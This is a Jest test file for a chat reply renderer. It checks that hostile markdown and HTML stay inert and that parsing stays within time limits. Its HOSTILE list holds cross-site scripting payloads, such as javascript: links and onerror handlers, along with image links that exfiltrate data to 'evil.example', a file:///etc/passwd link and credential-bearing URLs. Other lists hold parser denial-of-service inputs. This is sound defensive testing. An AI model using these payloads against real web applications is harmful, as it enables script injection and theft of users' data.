import { beforeAll, describe, expect, it } from "@jest/globals";
import { act, render } from "@testing-library/react";
import { LINK_PROTOCOLS } from "@atrium/shared-contracts/spec";
import { leastTime } from "../testing/least-time.ts";
import { Around, createFixture } from "../testing/render-chat.tsx";
import { quoteOf } from "../quote/quote.ts";
import { sentencesOf } from "../live/sentences.ts";
import { speakable } from "../read-aloud/speakable.ts";
import { cutBlocks } from "./cut-blocks.ts";
import { isBeyondLimits } from "./beyond-limits.ts";
import { blockCutting, highlighting, markdownRendering, mathDrawing, richParts } from "./lazy-parts.ts";
import { withoutManyMarks } from "./letter-marks.ts";
import { namedCharacters } from "./named-characters.ts";
import { appendsPlainly } from "./plain-append.ts";
import { withoutMarks } from "./math/formula-source.ts";
import { readSimpleText } from "./simple-text.ts";
import { numberIn } from "./table/cell-values.ts";
import { ReplyText } from "./reply-text.tsx";
import { allBlocks } from "./testing/all-blocks.ts";
import { growing } from "./testing/documents.ts";

const fixture = createFixture();
const view = (text: string, streaming = false) => (
  <Around fixture={fixture}>
    <ReplyText text={text} streaming={streaming} />
  </Around>
);

beforeAll(async () => {
  const code = [markdownRendering, richParts, blockCutting, highlighting, mathDrawing, namedCharacters];
  await Promise.all(code.map((part) => part.load()));
});

const HOSTILE = [
  "[x](javascript:alert(1)) [x](JaVa\tScript:alert(1)) [x](java&#10;script:alert(1)) [x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example) [x](\\\\evil.example)",
  "<javascript:alert(1)> [x][r]\n\n[r]: javascript:alert(1) 'title'",
  "[x](https://user:password@evil.example) https://bank.example@evil.example <https://user:password@evil.example> ![x](https://user@evil.example/p.png)",
  "[x](blob:https://evil.example/1) [x](https&colon;//evil.example) [x](/\\evil.example)",
  "![x](https://evil.example/?d=secret) ![x][i] ![](https://evil.example/p.png 'a\" onload=\"alert(1)')\n\n[i]: https://evil.example/i.png",
  "[![x](https://evil.example/a.png)](https://evil.example) | a |\n|---|\n| ![x](https://evil.example/t.png) |",
  "<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{background:url(https://evil.example/s.png)}</style>\n\n<base href='//evil.example'><link rel=stylesheet href=//evil.example>",
  "<form action=https://evil.example><input autofocus onfocus=alert(1)></form> <math href=javascript:alert(1)>x</math>",
  '```"><img src=x onerror=alert(1)>\ncode\n```\n\n```js onload=alert(1) {"a": "</code><script>alert(1)</script>"}\n</pre><script>alert(1)</script>\n```',
  "```__proto__\n{}\n```\n\n```constructor\n{}\n```\n\n```toString\n{}\n```",
  "\\(\\href{javascript:alert(1)}{x}\\) $$\\includegraphics{https://evil.example/f.png}$$ \\(\\url{https://evil.example}\\) \\(\\htmlData{x=1}{y}\\)",
  "\\(\\def\\a{\\a\\a}\\a\\) \\(\\htmlClass{evil}{x}\\) \\(\\htmlId{evil}{x}\\) \\(\\htmlStyle{position:fixed}{x}\\)",
  "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1)) ![x](https://evil.example/n.png)",
  "[^__proto__] [^constructor]\n\n[^__proto__]: note\n[^constructor]: note",
  "- [x] <b onclick=alert(1)>b</b>\n- ~~<i>~~ **<u>** &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
];

/** Everything that a browser would run, fetch or apply. */
function dangersIn(container: HTMLElement): string[] {
  const elements = [...container.querySelectorAll("*")];
  return [
    ...elements
      .filter((element) =>
        element.matches("script, img, iframe, object, embed, style, link, base, form, video, audio, source, meta"),
      )
      .map(({ outerHTML }) => outerHTML),
    ...elements.flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => {
          if (name.startsWith("on") || name === "srcdoc" || name === "src" || name === "srcset") return true;
          if (name === "id" || name === "class") return value.includes("evil");
          if (name !== "href" && name !== "xlink:href" && name !== "action") return /url\s*\(/i.test(value);
          return !isAllowed(value);
        })
        .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
    ),
  ];
}

const isAllowed = (href: string) =>
  href.startsWith("#") ||
  /^\/(?![/\\])/.test(href) ||
  (LINK_PROTOCOLS.some((name) => href.startsWith(`${name}:`)) && !/\/\/[^/?#]*@/.test(href));

describe("hostile replies stay inert", () => {
  it.each(HOSTILE)("%j", (text) => {
    const { container, unmount } = render(view(text));
    expect(dangersIn(container)).toEqual([]);
    unmount();
  });

  it.each(HOSTILE)("as they grow: %j", (text) => {
    const { container, rerender, unmount } = render(view("", true));
    for (const part of growing(text, [3, 1, 7])) {
      rerender(view(part, true));
      expect(dangersIn(container)).toEqual([]);
    }
    unmount();
  });
});

function drawn(text: string): HTMLElement {
  const element = document.createElement("p");
  element.textContent = text;
  return element;
}

const lines = (count: number, line: string) => `${line}\n`.repeat(count);

const numbered = (line: string) => Array.from({ length: 1_500 }, (_, index) => line.replace("*", `${index}`)).join("");
const table = (columns: number, row: string, rows: number) =>
  `|${"a|".repeat(columns)}\n|${"-|".repeat(columns)}\n${lines(rows, row)}`;

/** What would keep the parser busy for seconds: by depth, number of marks or size. */
const ENDLESS: [name: string, text: string][] = [
  ["3,000 nested quotes", `${"> ".repeat(3_000)}x`],
  ["3,000 nested quotes without spaces", `${">".repeat(3_000)}x`],
  ["3,000 nested lists", `${"- ".repeat(3_000)}x`],
  ["3,000 nested numbered lists", `${"1. ".repeat(3_000)}x`],
  ["quotes and lists in each other", `${"> - 1) ".repeat(1_000)}x`],
  ["lists nested by indentation", Array.from({ length: 300 }, (_, depth) => `${" ".repeat(2 * depth)}- a`).join("\n")],
  ["3,000 open brackets", "[".repeat(3_000)],
  ["3,000 nested brackets", `${"[".repeat(3_000)}x${"]".repeat(3_000)}`],
  ["3,000 nested links", `${"[".repeat(3_000)}x${"](y)".repeat(3_000)}`],
  ["3,000 nested images", `${"![".repeat(3_000)}x${"](y)".repeat(3_000)}`],
  ["emphasis that crosses", "*a_ ".repeat(3_000)],
  ["emphasis of alternating kinds", `${"_*".repeat(3_000)}a${"*_".repeat(3_000)}`],
  ["emphasis in many lines", lines(3_000, "*a __b")],
  ["underlined headings", lines(3_000, "a\n=")],
  ["beginnings of links", "[a](".repeat(3_000)],
  ["brackets that close", "[a]".repeat(3_000)],
  ["brackets in many paragraphs", lines(30, `${"[a]".repeat(300)}\n`)],
  ["footnotes with notes", `${numbered("[^*] ")}\n\n${numbered("[^*]: x\n\n")}`],
  ["definitions", numbered("[a*]: /x\n\n")],
  ["the same definition", `${"[a]: /x\n".repeat(5_000)}\n${"[a]".repeat(500)}`],
  ["a table of 40,000 cells", table(20, `|${"a|".repeat(20)}`, 2_000)],
  ["a table whose rows have few of their cells", table(1_000, "|a", 1_000)],
  ["a table in a quote", table(1_000, "|a", 1_000).replaceAll(/^/gm, "> ")],
  ["5,000 formulas", "$x$ ".repeat(5_000)],
  ["5,000 formulas between brackets", "\\(x\\) ".repeat(5_000)],
  ["5,000 formulas with lines to themselves", "$$x$$\n\n".repeat(5_000)],
  ["backslashes", "\\".repeat(60_000)],
  ["backslashes in many paragraphs", lines(30, `${"\\a".repeat(1_000)}\n`)],
  ["unknown character references", "&bad;".repeat(4_000)],
  ["blank lines", `a${"\n".repeat(20_000)}b`],
  ["short items", lines(20_000, "- a")],
  ["characters that there are none of", "\0".repeat(100_000)],
  ["a megabyte of code", `\`\`\`\n${lines(150_000, "x = 1;")}\`\`\``],
];

/** What may be slow to read, just within the limits. */
const BUSY: [name: string, text: string][] = [
  ["quotes", lines(20, `${"> ".repeat(90)}x`)],
  ["lists", `${"- ".repeat(90)}x`],
  ["links", `${"[".repeat(290)}x${"](y)".repeat(290)}`],
  ["emphasis", "*a_ ".repeat(490)],
  ["code marks", "`a``b ".repeat(1_000)],
  ["tags", "<a ".repeat(3_000)],
  ["entities", "&amp;".repeat(3_000)],
  ["links by themselves", "http://a.b@c.".repeat(1_000)],
  ["beginnings of formulas", "\\(".repeat(1_900)],
  ["beginnings of formulas in lines", lines(290, "\\[")],
  ["dollar signs", "$a ".repeat(3_000)],
  ["formulas", "$x$ ".repeat(1_900)],
  ["backslashes", "\\a".repeat(3_000)],
  ["short lines", lines(14_900, "a")],
  ["footnotes", "[^a]".repeat(1_000) + "\n\n[^a]: x"],
  ["definitions", Array.from({ length: 500 }, (_, index) => `[a${index}]: x`).join("\n")],
];

describe("hostile replies take bounded time", () => {
  it.each(ENDLESS)("%s are shown as written, without being parsed", (_, text) => {
    expect(isBeyondLimits(text)).toBe(true);
    expect(cutBlocks(text)).toEqual([text]);
    expect(allBlocks(text)).toEqual([text]);
    const { container, unmount } = render(view(text));
    expect(container.textContent).toBe(text);
    expect(container.querySelectorAll("blockquote, li, a, pre, h1, td")).toHaveLength(0);
    unmount();
  });

  it.each([
    "<!--\n```\n-->\n",
    "<div>\n```\n\n",
    "$$\n```\n$$\n",
    "- a\n  ```\n\n",
    "> ```\n\n",
    "```\r```\r\n",
    "````\n```\n````\n",
    "``` `a`\n",
    "    ```\n",
  ])("counts what follows %j, which isn't in a code", (before) => {
    expect(isBeyondLimits(`${before}${"[a](".repeat(3_000)}`)).toBe(true);
  });

  it.each([
    ["a word of 1,001 letters", "a".repeat(1_001)],
    ["1,001 characters without punctuation", "a ".repeat(501)],
    ["1,002 marks without space", "/*".repeat(501)],
    ["over 100,000 characters", "const a = 1;\n".repeat(10_000)],
    ["over 25,000 words and marks", "`${a}`\n".repeat(12_000)],
  ])("shows a code with %s without colors, and others with theirs", (_, code) => {
    const { container, unmount } = render(view(`\`\`\`js\nlet ${code}\n\`\`\`\n\n\`\`\`js\nlet b;\n\`\`\``));
    expect([...container.querySelectorAll("pre")].map(({ textContent }) => textContent)).toEqual([
      `let ${code}\n`,
      "let b;\n",
    ]);
    expect([...container.querySelectorAll(".hljs-keyword")].map(({ textContent }) => textContent)).toEqual(["let"]);
    unmount();
  });

  it("shows what's beyond the limits only as a whole as written, too, once it has grown", async () => {
    const text = lines(30, `${"[a]".repeat(300)}\n`);
    const { container, rerender, unmount } = render(view("", true));
    for (const part of growing(text, [5_000])) rerender(view(part, true));
    rerender(view(text));
    // The exact parse waits until the browser is idle, which jsdom is at once.
    await act(() => new Promise<void>((resolve) => setTimeout(resolve)));
    expect(container.textContent).toBe(text);
    expect(container.querySelectorAll("p")).toHaveLength(1);
    unmount();
  });

  it("shows line breaks of any kind as written, too", () => {
    const { container, unmount } = render(view("a\r".repeat(20_000)));
    expect(container.querySelectorAll("p")).toHaveLength(1);
    expect(container.textContent).toBe("a\n".repeat(20_000));
    unmount();
  });

  it("finds that out in a time that grows with the length only", () => {
    const short = ENDLESS.map(([, text]) => text.slice(0, 3_000)).join("\n\n");
    const time = (text: string, limit = 0) => leastTime(limit, () => isBeyondLimits(text));
    time(short);
    const ordinary = "Some **bold** and [linked](x) text, `code`, and a list:\n\n- one\n- two\n\n";
    const expected = time(ordinary.repeat(5_000));
    for (const mark of [
      "[",
      "]",
      ">",
      "- ",
      " ",
      "\n",
      "\t",
      "*",
      "_~",
      "=\n",
      "-|",
      "a|\n",
      "]:",
      "$a",
      "$$",
      "\\(",
      "1",
      "1.",
      "> [",
      "#",
      "|",
    ]) {
      const limit = 20 * expected + 100;
      expect(time(mark.repeat(Math.ceil(350_000 / mark.length)), limit)).toBeLessThan(limit);
    }
  });

  describe("just within the limits", () => {
    const ordinary = Array.from(
      { length: 600 },
      (__, index) =>
        `## Part ${index}\n\nSome **bold** and [linked](https://example.com) text with \`code\`.\n\n- one\n- two`,
    ).join("\n\n");
    const time = (text: string, limit = 0) => leastTime(limit, () => [cutBlocks(text), allBlocks(text)]);
    let limit = 0;
    beforeAll(() => {
      limit = 2 * time(ordinary) + 200;
    });

    it.each(BUSY)("%s cost at most twice as much as a long reply", (_, text) => {
      expect(isBeyondLimits(text)).toBe(false);
      expect(time(text, limit)).toBeLessThan(limit);
    });
  });
});

describe("a letter keeps as many marks as a browser draws quickly", () => {
  const MARK = "\u0301";
  it.each([
    ["simple text", (marks: string) => `a${marks}`],
    ["a paragraph", (marks: string) => `**b** a${marks}`],
    ["code", (marks: string) => `\`\`\`\na${marks}\n\`\`\``],
    ["character references", (marks: string) => `a${marks.replaceAll(MARK, "&#x301;")}`],
    ["a text beyond the limits", (marks: string) => `${"[".repeat(500)}a${marks}`],
  ])("in %s", (_, write) => {
    const marksIn = (count: number) => {
      const { container, unmount } = render(view(write(MARK.repeat(count))));
      const drawn = container.textContent.split(MARK).length - 1;
      unmount();
      return drawn;
    };
    expect(marksIn(2_900)).toBe(30);
    expect(marksIn(30)).toBe(30);
  });
});

describe("runs of the same character cost what their length does", () => {
  const RUN = 200_000;
  it.each<[name: string, read: () => unknown]>([
    ["spaces in a simple reply", () => readSimpleText(`a${" ".repeat(RUN)}b`)],
    ["spaces in a quote", () => quoteOf(`a${" ".repeat(RUN)}b`)],
    ["line breaks in what's copied", () => withoutMarks(`a${"\n".repeat(RUN)}b`)],
    ["letters in a growing line", () => appendsPlainly("a".repeat(RUN), "b")],
    ["ends of sentences", () => sentencesOf(`${"!".repeat(RUN)}a`)],
    ["marks on a letter", () => withoutManyMarks(`a${"\u0301".repeat(30)}`.repeat(RUN / 31))],
    ["spaces in a cell", () => numberIn(`$${" ".repeat(RUN)}a`)],
    ["commas that are read aloud", () => speakable(drawn(`a${",".repeat(RUN)}b`), "en")],
  ])("%s", (_, read) => {
    // Seconds if each of them looked at all the others.
    expect(leastTime(2_000, read)).toBeLessThan(2_000);
  });
});

describe("ordinary replies are within the limits", () => {
  it.each([
    ["a long list with bold", lines(2_000, "- **a**: *b* [c](d)")],
    ["a large table", `| a | b |\n|---|---|\n${lines(2_000, "| **a** | [b](c) |")}`],
    ["many headings and rules", lines(200, "# a\n\ntext\n\n---\n")],
    ["a wide table", table(40, `|${"a|".repeat(40)}`, 200)],
    ["code with data", `\`\`\`json\n${lines(1_000, "  [1, 2],")}\`\`\``],
    ["code with much data", `Here:\n\n~~~\n${lines(3_000, "  [1, 2], a*b|c")}~~~\n\nDone.`],
    ["many links", lines(100, lines(10, "Some [words](https://example.com) and [more](https://example.org)."))],
    ["many notes", Array.from({ length: 100 }, (_, index) => `Words[^${index}].\n\n[^${index}]: note\n\n`).join("")],
    ["prices", `| a | b |\n|---|---|\n${lines(3_000, "| $5 | US$10.50 |")}`],
    ["formulas", lines(500, "So $a_1$ is \\(b\\), and\n\n$$\nc\n$$\n")],
    ["intervals", lines(100, "[0, 1) and (0, 1]\n")],
    ["code with indentation", `\`\`\`\n${lines(500, `${" ".repeat(150)}- x`)}\`\`\``],
  ])("%s", (_, text) => expect(isBeyondLimits(text)).toBe(false));
});
